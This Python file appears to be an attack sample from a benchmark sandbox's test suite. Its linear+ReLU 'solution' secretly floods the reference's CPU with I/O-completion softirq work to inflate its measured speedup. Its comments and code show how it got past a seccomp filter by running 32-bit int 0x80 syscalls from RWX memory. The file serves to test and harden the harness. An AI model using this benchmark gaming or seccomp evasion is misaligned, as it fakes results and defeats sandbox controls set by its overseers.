# problem: tests/problems/linear_relu.py
# Helper attack (attack36): honest linear+relu, plus a block-I/O completion storm that runs on the
# reference's CPU while the jail is frozen. The VM's disk (virtio-blk, one queue) has its IRQ on the top
# CPU (/proc/interrupts: virtio1-req.0, all on CPU 1; /proc/softirqs BLOCK: all on CPU 1), and blk-mq
# completes a request in BLOCK softirq on the IRQ's CPU whatever CPU or cpuset submitted it (rq_affinity 1,
# shared cache). At the last call of each of its rounds (a round's first call follows a long idle gap;
# timing.round_calls = 10) the solution submits 128 O_DIRECT reads of 992 KB (one request each, 248
# segments: the device completes them ~0.6 ms apart, over ~13-90 ms) through Linux AIO, not waited for,
# each signalling its own eventfd registered (edge-triggered) in 999 epoll instances whose ready lists
# it emptied a call earlier: each completion walks 999 full ep_poll_callbacks in softirq on the
# reference's CPU, through most of the reference's round, charged to no cgroup and untouched by the freezer.
# Refused io_setup, it makes the context through `int 0x80` (i386 io_setup, 245; a second helper's):
# io_submit and io_getevents then use it as before. 1.44-1.61x passed that way while the filter let
# every other ABI through. The jail's seccomp filter now refuses io_setup, io_uring_setup and any
# syscall of another ABI (sandbox._filter): 1.00.
# Env knobs (A36_*) for experiments only.
import ctypes, os, mmap, select, resource, time
import torch
import torch.nn as nn
import torch.nn.functional as F

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def _io_setup32(n):
    # push rbx; mov eax,edi; mov ebx,esi; mov ecx,edx; int 0x80; pop rbx; movsxd rax,eax; ret
    code = bytes([0x53,0x89,0xf8,0x89,0xf3,0x89,0xd1,0xcd,0x80,0x5b,0x48,0x63,0xc0,0xc3])
    _libc.mmap.restype = ctypes.c_void_p
    _libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    page = _libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)   # RWX, MAP_PRIVATE|ANON|MAP_32BIT
    ctypes.memmove(page, code, len(code))
    f = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(page)
    out = page + 2048                                     # a 32-bit address for the u32 context
    ctypes.c_uint64.from_address(out).value = 0
    r = f(245, n, out)                                    # i386 io_setup
    assert r == 0, r
    return ctypes.c_uint32.from_address(out).value


class iocb(ctypes.Structure):
    _fields_ = [("data", ctypes.c_uint64), ("key", ctypes.c_uint32), ("rwf", ctypes.c_uint32),
                ("op", ctypes.c_uint16), ("prio", ctypes.c_int16), ("fd", ctypes.c_uint32),
                ("buf", ctypes.c_uint64), ("nbytes", ctypes.c_uint64), ("off", ctypes.c_int64),
                ("r2", ctypes.c_uint64), ("flags", ctypes.c_uint32), ("resfd", ctypes.c_uint32)]
class ioev(ctypes.Structure):
    _fields_ = [("data", ctypes.c_uint64), ("obj", ctypes.c_uint64), ("res", ctypes.c_int64), ("res2", ctypes.c_int64)]

CH = int(os.environ.get("A36_CH", "1"))           # chunks, each its own io_submit (its own kick of the disk)
B = int(os.environ.get("A36_B", "0"))             # spacers a chunk
SM = int(os.environ.get("A36_SM", "128"))           # amplified reads a chunk, after its spacers
DEPTH = CH * SM                                    # CH * (B + SM) under the disk's 256 scheduler tags
SZ = int(os.environ.get("A36_SZ", str(992 << 10)))
BIG = int(os.environ.get("A36_BIG", str(4 << 20)))
NEP = int(os.environ.get("A36_NEP", "999"))
FSIZE = 1024 << 20

class Storm:
    def __init__(self, path):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        with open(path, "wb") as f:
            blk = os.urandom(1 << 20)
            for _ in range(FSIZE >> 20): f.write(blk)
            f.flush(); os.fsync(f.fileno())
        self.fd = os.open(path, os.O_RDONLY | os.O_DIRECT)
        # the read buffer in transparent huge pages: physically contiguous, so one request per read
        # whatever its size (max_segments 254 would split a 4K-paged buffer every 992 KB)
        H = 2 << 20
        self.bf = open(path + ".buf", "w+b")
        self.bf.write(b"\1" * (BIG + H)); self.bf.flush()
        self.buf = mmap.mmap(self.bf.fileno(), BIG + H)
        self.addr = ctypes.addressof(ctypes.c_char.from_buffer(self.buf))
        self.small = mmap.mmap(-1, max(SZ, 4096))
        self.saddr = ctypes.addressof(ctypes.c_char.from_buffer(self.small))
        self.ctx = ctypes.c_ulong(0)
        if _libc.syscall(206, 1024, ctypes.byref(self.ctx)) != 0:  # refused: the same, as a 32-bit syscall
            self.ctx = ctypes.c_ulong(_io_setup32(1024))
        self.efds = [os.eventfd(0, os.EFD_NONBLOCK) for _ in range(DEPTH)]
        self.eps = [select.epoll() for _ in range(NEP)]
        for e in self.eps:
            for fd in self.efds:
                e.register(fd, select.EPOLLIN | select.EPOLLET)
        N = CH * (B + SM)
        self.cbs = (iocb * N)(); self.ptrs = (ctypes.POINTER(iocb) * N)()
        for i in range(N):
            self.ptrs[i] = ctypes.pointer(self.cbs[i])
        self.evs = (ioev * 1024)(); self.inflight = 0; self.n = 0
    def reap(self):
        ts = (ctypes.c_long * 2)(0, 0)
        while self.inflight:
            r = _libc.syscall(208, self.ctx, 0, 1024, self.evs, ts)
            if r <= 0: break
            self.inflight -= r
    def prime(self):
        self.reap()
        if self.inflight:
            return False
        # (the eventfds are not read: a read wakes their watchers too, and edge-triggered items are
        # re-added by every signal whatever the count)
        for e in self.eps:
            e.poll(0, DEPTH + 8)      # empties its ready list (edge-triggered: nothing re-added)
        return True
    def fire(self):
        # offsets rising in submission order (the scheduler dispatches by sector) with gaps (no merging)
        N = CH * (B + SM)
        step = (FSIZE - BIG) // N // 4096 * 4096
        i = 0; e = 0
        for c in range(CH):
            first = i
            for j in range(B + SM):
                cb = self.cbs[i]
                big = j < B
                cb.op = 0; cb.fd = self.fd
                cb.buf = self.addr if big else self.saddr
                cb.nbytes = BIG if big else SZ
                cb.off = min(i * step, FSIZE - BIG) // 4096 * 4096
                cb.flags = 0 if big else 1; cb.resfd = 0 if big else self.efds[e]
                e += 0 if big else 1
                i += 1
            r = _libc.syscall(209, self.ctx, B + SM, ctypes.byref(self.ptrs, first * ctypes.sizeof(ctypes.c_void_p)))
            if r > 0: self.inflight += r

_S = {}
def _storm():
    if "s" not in _S:
        try:
            _S["s"] = Storm(os.path.join(os.environ.get("TMPDIR", "/tmp"), "a36.bin"))
        except Exception:
            _S["s"] = None
    return _S["s"]


class ModelNew(nn.Module):
    def __init__(self, *sizes):
        super().__init__()
        self.linear = nn.Linear(*sizes)
        _storm()

    def forward(self, x):
        t_in = time.perf_counter()
        y = F.relu(F.linear(x, self.linear.weight, self.linear.bias))
        # a round's calls follow each other within a fraction of a millisecond; between rounds the
        # other side's round runs: the idle gap since the last call returned tells a round's first call
        last = _S.get("end")
        gaps = _S.setdefault("gaps", [])
        if last is not None:
            g = t_in - last
            med = sorted(gaps)[len(gaps) // 2] if gaps else 0.0
            if g > max(0.003, 5 * med):
                _S["k"] = 1
            else:
                _S["k"] = _S.get("k", 0) + 1
                gaps.append(g); del gaps[:-30]
        s = _storm()
        at = int(os.environ.get("A36_AT", "10"))
        if s is not None and _S.get("k", 0) == at - 1:
            _S["primed"] = s.prime()       # the slow part (ready lists emptied) a call early
        if s is not None and _S.get("k", 0) == at and _S.pop("primed", False):
            s.fire()                      # ~1 ms: 250 reads submitted, not waited for
        _S["end"] = time.perf_counter()
        return y
